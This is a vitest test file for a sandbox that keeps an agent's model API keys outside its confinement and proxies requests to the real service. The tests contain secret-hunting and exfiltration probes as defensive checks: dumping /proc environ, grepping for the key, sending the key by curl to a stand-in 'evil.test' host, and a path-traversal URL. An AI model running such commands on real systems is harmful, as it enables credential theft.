import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer, type Server } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { KnownAgentName } from '#shared/known-agent';
import { launch } from '../../process';
import { testCertificate } from '../../testing/test-certificate';
import { confineTo } from '../confine';
import { createKeptKeys } from './kept-keys';
import { theWorld } from './outside';
import { openSessionNetwork, type SessionNetwork } from './session-network';

const KEY = 'sk-ant-the-real-one-4711';
const CLAUDE = { PATH: '/usr/bin:/bin', ANTHROPIC_API_KEY: KEY };
const node = { path: process.execPath, env: { ELECTRON_RUN_AS_NODE: '1' } };

let folder: string;
let model: Server;
let answer: (message: IncomingMessage, response: ServerResponse) => void;
let heard: { host: string | undefined; url: string; headers: IncomingMessage['headers']; bytes: number }[];
let network: SessionNetwork | null;
let keepsKeys: boolean;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'understory-kept-keys-'));
  for (const name of ['work', 'home', 'own-home', 'data']) await mkdir(join(folder, name));
  const { key, cert } = await testCertificate(folder, ['api.anthropic.com', 'gateway.test']);
  model = createServer({ key, cert }, (message, response) => {
    let bytes = 0;
    message.on('data', (chunk: Buffer) => {
      bytes += chunk.length;
    });
    message.on('end', () => {
      const { url = '', headers } = message;
      heard.push({ host: headers.host, url, headers, bytes });
      answer(message, response);
    });
  });
  await new Promise<void>((resolve) => model.listen(0, '127.0.0.1', resolve));
});
afterAll(async () => {
  model.closeAllConnections();
  model.close();
  await rm(folder, { recursive: true, force: true });
});
beforeEach(() => {
  heard = [];
  network = null;
  keepsKeys = true;
  answer = (_, response) => response.end('answered');
});
afterEach(() => network?.close());

/** Runs a script in a sandbox whose user has these variables, as Claude Code would be run; all addresses lead to the test's server. */
async function inside(
  script: string,
  env: Record<string, string> = CLAUDE,
  { trusts = true, onSaid }: { trusts?: boolean; onSaid?: (said: string) => void } = {},
): Promise<string> {
  const { port } = model.address() as AddressInfo;
  network ??= openSessionNetwork({
    ...{ home: join(folder, 'data'), agent: 'claude', node, named: () => [], userHome: join(folder, 'home') },
    listener: { ask: async () => ({ allow: false, holds: () => true }), told: () => undefined },
    keepsKeys: () => keepsKeys,
    userVariables: async () => ({}),
    outside: {
      resolve: async () => ['93.184.216.34'],
      connect: () => theWorld.connect(['127.0.0.1'], port),
    },
  });
  const whole = { ...env, ...(trusts ? { NODE_EXTRA_CA_CERTS: join(folder, 'cert.pem') } : {}) };
  const work = join(folder, 'work');
  const child = launch({
    purpose: 'agent',
    session: { id: 'abc', folder: work },
    ...{ command: 'sh', args: ['-c', script], cwd: work, env: whole },
    confine: confineTo({
      mounts: [{ from: work, to: work, access: 'write' }],
      home: join(folder, 'own-home'),
      network: await network.wayOut(whole, []),
      limits: { processes: 200 },
    }),
  });
  child.stdin.end();
  let said = '';
  child.stdout.on('data', (chunk) => {
    said += chunk;
    onSaid?.(said);
  });
  const printed = await text(child.stdout);
  await child.ended;
  return printed + child.stderrTail();
}

const ask = 'curl -sS "$ANTHROPIC_BASE_URL/v1/messages?beta=true" -H "x-api-key: $ANTHROPIC_API_KEY"';

describe.runIf(process.platform === 'linux')('a key of a model, with the sandbox that may use it', () => {
  test('is in no variable, file or argument there, and arrives with what is asked of its service', async () => {
    const look = `env; cat /proc/*/environ /proc/*/cmdline; grep -r ${KEY.slice(0, 9)} ~ .;`;
    const said = await inside(`${look} ${ask} -H "x-other: $ANTHROPIC_API_KEY"`);
    expect(said).toMatch(/answered$/);
    expect(said).not.toContain(KEY);
    expect(heard).toMatchObject([
      { host: 'api.anthropic.com', url: '/v1/messages?beta=true', headers: { 'x-api-key': KEY } },
    ]);
    expect(heard[0]?.headers['x-other']).toContain('kept-outside-by-understory');
    const before = await inside('echo $ANTHROPIC_API_KEY');
    expect(await inside('echo $ANTHROPIC_API_KEY')).toBe(before);
  });

  test('goes along as the user has it, to where the user has it', async () => {
    const env = {
      ...CLAUDE,
      ANTHROPIC_AUTH_TOKEN: 'token-of-the-gateway',
      ANTHROPIC_BASE_URL: 'https://gateway.test/of/ours/',
    };
    const asked = `curl -sS --path-as-is "$ANTHROPIC_BASE_URL/v1/x" -H "Authorization: Bearer $ANTHROPIC_AUTH_TOKEN"`;
    const climbing = `curl -sS --path-as-is "$ANTHROPIC_BASE_URL/%2e%2e/../other" -H "x-api-key: $ANTHROPIC_API_KEY"`;
    expect(await inside(`${asked}; ${climbing}`, env)).toMatch(/^answered.*the whole address/);
    expect(heard).toMatchObject([
      {
        host: 'gateway.test',
        url: '/of/ours/v1/x',
        headers: { authorization: 'Bearer token-of-the-gateway' },
      },
    ]);
  });

  test('goes to nobody else: no other host, none that an answer leads to, none that is not who it says', async () => {
    answer = ({ headers }, response) => {
      if (headers.host === 'api.anthropic.com') response.writeHead(302, { location: 'https://evil.test/' });
      response.end();
    };
    const proxied = `curl -sS -L ${ask.slice('curl -sS '.length)} -o /dev/null -w '%{http_code}'`;
    expect(await inside(`${proxied}; curl -sS http://evil.test/ -H "x-api-key: $ANTHROPIC_API_KEY"`)).toMatch(
      /CONNECT tunnel failed|Refused|refused/,
    );
    expect(heard.map(({ host }) => host)).toEqual(['api.anthropic.com']);
    await network?.close();
    network = null;
    expect(await inside(ask, CLAUDE, { trusts: false })).toContain('in safety');
    expect(heard).toHaveLength(1);
  });

  test('streams both ways: words come as they are said, and a large request is no matter', async () => {
    let goOn: () => void = () => undefined;
    const heardFirst = new Promise<void>((resolve) => {
      goOn = resolve;
    });
    answer = (_, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write('data: first\n\n');
      void heardFirst.then(() => response.end('data: last\n\n'));
    };
    const large = `head -c 20000000 /dev/zero | ${ask} -N -T -`;
    const said = await inside(large, CLAUDE, {
      onSaid: (words) => {
        if (words.includes('first')) goOn();
      },
    });
    expect(said).toBe('data: first\n\ndata: last\n\n');
    expect(heard[0]?.bytes).toBe(20_000_000);
  });

  test('is given to the agent where the user has chosen so', async () => {
    keepsKeys = false;
    expect(await inside('echo $ANTHROPIC_API_KEY $ANTHROPIC_BASE_URL')).toBe(`${KEY}\n`);
  });
});

describe('which keys stay outside', () => {
  const keep = (agent: KnownAgentName | null, env: Record<string, string>) =>
    createKeptKeys().keep(agent, env, { home: join(folder, 'home'), at: 'http://127.0.0.1:1' });

  test('those of agents that can be told another address, and of no others', async () => {
    const env = { OPENAI_API_KEY: KEY, GEMINI_API_KEY: KEY, ANTHROPIC_API_KEY: KEY };
    expect(Object.keys(await keep('claude', env))).toEqual(['ANTHROPIC_BASE_URL', 'ANTHROPIC_API_KEY']);
    expect(Object.keys(await keep('gemini', env))).toEqual(['GOOGLE_GEMINI_BASE_URL', 'GEMINI_API_KEY']);
    expect(Object.keys(await keep('codex', env))).toEqual(['CODEX_CONFIG', 'OPENAI_API_KEY']);
    expect(JSON.parse((await keep('opencode', env)).OPENCODE_CONFIG_CONTENT ?? '')).toMatchObject({
      provider: { anthropic: { options: { baseURL: 'http://127.0.0.1:1/keys-kept-outside/anthropic' } } },
    });
    for (const agent of ['pi', 'qwen', null] as const) expect(await keep(agent, env)).toEqual({});
    expect(
      Object.keys(await keep('qwen', { ...env, OPENAI_BASE_URL: 'http://127.0.0.1:2/v1' })),
    ).toHaveLength(2);
  });

  test('what was started last says which, by their variables alone', async () => {
    const keys = createKeptKeys();
    const start = (env: Record<string, string>) =>
      keys.keep('claude', env, { home: join(folder, 'home'), at: 'http://127.0.0.1:1' });
    expect(keys.variables()).toBeNull();
    await start({ ANTHROPIC_AUTH_TOKEN: KEY, OPENAI_API_KEY: KEY });
    expect(keys.variables()).toEqual(['ANTHROPIC_AUTH_TOKEN']);
    await start({});
    expect(keys.variables()).toEqual([]);
  });

  test('none where the user has said in another way where models are, or what is no key or address', async () => {
    expect(await keep('codex', { OPENAI_API_KEY: KEY, CODEX_CONFIG: '{"model":"x"}' })).toEqual({});
    expect(await keep('claude', { ANTHROPIC_API_KEY: 'two\r\nlines' })).toEqual({});
    for (const address of ['https://user:word@x.test', 'file:///x', 'no address', 'https://x.test/?a'])
      expect(await keep('claude', { ...CLAUDE, ANTHROPIC_BASE_URL: address })).toEqual({});
    await mkdir(join(folder, 'home/.claude'), { recursive: true });
    await writeFile(join(folder, 'home/.claude/settings.json'), '{"env":{"ANTHROPIC_BASE_URL":"https://x"}}');
    expect(await keep('claude', CLAUDE)).toEqual({});
    await rm(join(folder, 'home/.claude'), { recursive: true });
  });
});
